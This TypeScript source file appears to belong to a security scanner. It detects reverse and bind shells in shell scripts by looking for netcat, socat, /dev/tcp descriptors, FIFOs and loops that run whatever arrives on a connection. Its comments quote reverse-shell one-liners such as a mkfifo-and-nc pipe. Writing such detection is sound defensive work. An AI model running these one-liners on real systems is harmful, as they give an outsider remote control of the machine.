import type { ShellCommand, ShellPipeline } from '../shell/model.ts';
import {
  isNetworkPipe,
  isShell,
  isSocketFile,
  listenerRunsShell,
  listens,
  netcatRunsShell,
  readsCommands,
  socatRunsShell,
  sshOpensDoor,
} from './net-programs.ts';

export interface RemoteShell {
  readonly pipeline: ShellPipeline;
  readonly bind: boolean;
}

/**
 * Shells tied to a connection, in the commands of one script. A connection alone (`echo > /dev/tcp/db/5432`,
 * `nc -z`) is how scripts wait for a database and is no finding: a shell has to be at one end.
 */
export function remoteShells(pipelines: readonly ShellPipeline[]): readonly RemoteShell[] {
  const descriptors = socketDescriptors(pipelines);
  const fifo = pipelines.some(({ commands }) => commands.some(({ name, args }) => makesFifo(name, args)));
  return pipelines.flatMap((pipeline) => {
    const { commands } = pipeline;
    const tied = commands.some((command) => shellOnSocket(command, descriptors));
    const obeyed = descriptors.size > 0 && obeys(pipeline, descriptors);
    const program = commands.find(
      (command) =>
        netcatRunsShell(command) ||
        socatRunsShell(command) ||
        listenerRunsShell(command) ||
        sshOpensDoor(command),
    );
    const piped = pipedToShell(commands, fifo);
    if (!tied && !obeyed && program === undefined && !piped) return [];
    const bind = commands.some(
      (command) => (command === program || isNetworkPipe(command)) && listens(command),
    );
    return [{ pipeline, bind }];
  });
}

const SHELL_PATH = /^(?:\/(?:usr\/)?bin\/)?(?:ba|da|a|z|k)?sh(?:\s+-\w+)*$/;

function makesFifo(name: string, args: readonly { text: string }[]): boolean {
  return name === 'mkfifo' || (name === 'mknod' && args.some(({ text }) => text === 'p'));
}

/** Numbers that `exec 5<>/dev/tcp/…` gives to connections. */
function socketDescriptors(pipelines: readonly ShellPipeline[]): ReadonlySet<string> {
  const found = new Set<string>();
  for (const { commands } of pipelines) {
    for (const { redirects } of commands) {
      for (const { fd, target } of redirects) {
        if (fd !== undefined && fd > 2 && isSocketFile(target.text)) found.add(String(fd));
      }
    }
    // zsh's own: the number is in $REPLY.
    if (commands.some(({ name }) => name === 'ztcp')) {
      for (const reply of ['$REPLY', '${REPLY}']) found.add(reply);
    }
  }
  return found;
}

function shellOnSocket(command: ShellCommand, descriptors: ReadonlySet<string>): boolean {
  // `script -c bash` gives the shell a terminal of its own.
  const terminal = command.name === 'script' && command.args.some(({ text }) => SHELL_PATH.test(text));
  if (terminal) return command.redirects.some(({ target }) => isSocketFile(target.text));
  if (!isShell(command)) return false;
  const own = readsCommands(command);
  return command.redirects.some(({ target, operator, fd }) => {
    if (isSocketFile(target.text)) return own;
    const input = operator === '<&' || (operator === '>&' && fd === 0);
    return own && input && descriptors.has(target.text);
  });
}

/** `while read line <&5; do $line >&5; done`: whatever arrives is run. */
function obeys(pipeline: ShellPipeline, descriptors: ReadonlySet<string>): boolean {
  const named = /[<>]&\s*(\d+)/g;
  const uses = [...pipeline.text.matchAll(named)].some((match) => descriptors.has(match[1] ?? ''));
  return uses && pipeline.commands.some((command) => runsVariable(command, 0));
}

function runsVariable(command: ShellCommand, depth: number): boolean {
  if (/^\$\{?[a-z_]\w*\}?$/i.test(command.program)) return true;
  if (command.name === 'eval' && command.args.some(({ text }) => /^\$\{?[a-z_]\w*\}?$/i.test(text)))
    return true;
  return (
    depth < 8 && command.body.some(({ commands }) => commands.some((inner) => runsVariable(inner, depth + 1)))
  );
}

/** `cat /tmp/f | sh -i 2>&1 | nc host port > /tmp/f`, `nc host port | sh`. */
function pipedToShell(commands: readonly ShellCommand[], fifo: boolean): boolean {
  const shell = commands.findIndex(readsCommands);
  if (shell < 0 || commands.length < 2) return false;
  if (commands.slice(0, shell).some(isNetworkPipe)) return true;
  if (!commands.slice(shell + 1).some(isNetworkPipe)) return false;
  return fifo || commands[shell]?.args.some(({ text }) => /^-\w*i/.test(text)) === true;
}
